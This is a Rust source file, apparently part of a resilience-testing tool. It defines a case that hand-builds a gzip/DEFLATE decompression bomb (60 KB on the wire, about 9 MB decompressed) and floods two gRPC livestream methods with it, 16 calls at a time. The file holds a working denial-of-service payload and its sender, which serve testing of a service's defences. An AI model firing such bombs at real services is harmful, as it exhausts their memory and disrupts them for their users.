//! Messages that are small on the wire and large in memory.

use bytes::{BufMut, Bytes, BytesMut};
use futures_util::future::join_all;
use http::{HeaderName, HeaderValue, header};

use crate::attacker::Attacker;
use crate::case::{Attack, Budgets, Case, Limit};
use crate::ending::Ending;
use crate::link::{Call, Link};
use crate::world::livestream_method;

/// Calls at the same time.
const AT_ONCE: usize = 16;
/// Bytes of a message on the wire; it has 160 times as many.
const SIZE: usize = 60_000;

pub(super) struct CompressedMessages;

impl Case for CompressedMessages {
    fn name(&self) -> &'static str {
        "compressed-messages"
    }

    fn does(&self) -> &'static str {
        "sends messages of 60 000 bytes, in gzip, of 9 MB of zeros, on calls of both kinds, 16 at a time"
    }

    fn budget(&self, _budgets: &Budgets<'_>) -> u64 {
        0
    }

    // gRPC itself refuses what it cannot decompress: UNIMPLEMENTED, whose reason is in its text alone.
    fn limit(&self) -> Limit {
        Limit::Cheap
    }

    fn run<'a>(&'a self, attacker: &'a Attacker) -> Attack<'a> {
        Box::pin(async move {
            let link = &attacker.link().await?;
            let bomb = &bomb();
            let calls = async |number: usize| {
                let method = livestream_method(["PublishUpdates", "GetLivestream"][number % 2]);
                while !attacker.is_over() {
                    if !attacker.may_go_on(send(link, &method, bomb.clone()).await) {
                        break;
                    }
                }
            };
            join_all((0..AT_ONCE).map(calls)).await;
            Ok(())
        })
    }
}

async fn send(link: &Link, method: &str, message: Bytes) -> Ending {
    let encoding = (HeaderName::from_static("grpc-encoding"), HeaderValue::from_static("gzip"));
    let mut headers = vec![encoding];
    headers.extend(link.token().map(|token| (header::AUTHORIZATION, token.clone())));
    let begun = async {
        let mut call = link.begin_with(method, &headers).await?;
        // A call that is refused by its headers needs no message.
        call.body.send_data(message, true).ok();
        Ok(call)
    };
    match begun.await {
        Ok(Call { response, .. }) => Call::ending(response).await,
        Err(ending) => ending,
    }
}

/// A compressed message, with its prefix: gzip (RFC 1952) of a zero and its repetitions, 258 at a time (RFC 1951), without
/// an end.
fn bomb() -> Bytes {
    let mut bits = Bits::default();
    // Not the last block; codes are fixed.
    bits.push(0b010, 3);
    // A literal zero, whose code, as all codes, begins with its highest bit.
    bits.push(0b0000_1100, 8);
    let head = [0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255];
    while head.len() + bits.bytes.len() < SIZE {
        // Length 258 is 11000101, distance 1 is 00000.
        bits.push(0b1010_0011, 8);
        bits.push(0, 5);
    }
    let length = u32::try_from(head.len() + bits.bytes.len()).expect("it is short");
    let mut message = BytesMut::new();
    message.put_u8(1);
    message.put_u32(length);
    message.put_slice(&head);
    message.put_slice(&bits.bytes);
    message.freeze()
}

/// Bits in the order of DEFLATE: the lowest first.
#[derive(Default)]
struct Bits {
    bytes: Vec<u8>,
    held: u32,
    count: u32,
}

impl Bits {
    fn push(&mut self, bits: u32, count: u32) {
        self.held |= bits << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push(self.held.to_le_bytes()[0]);
            self.held >>= 8;
            self.count -= 8;
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn bomb_has_its_length_before_it() {
        let bomb = bomb();
        let length = u32::from_be_bytes(bomb[1..5].try_into().unwrap());
        assert_eq!((bomb[0], length as usize), (1, bomb.len() - 5));
        assert!((SIZE..SIZE + 16).contains(&(bomb.len() - 5)));
    }
}
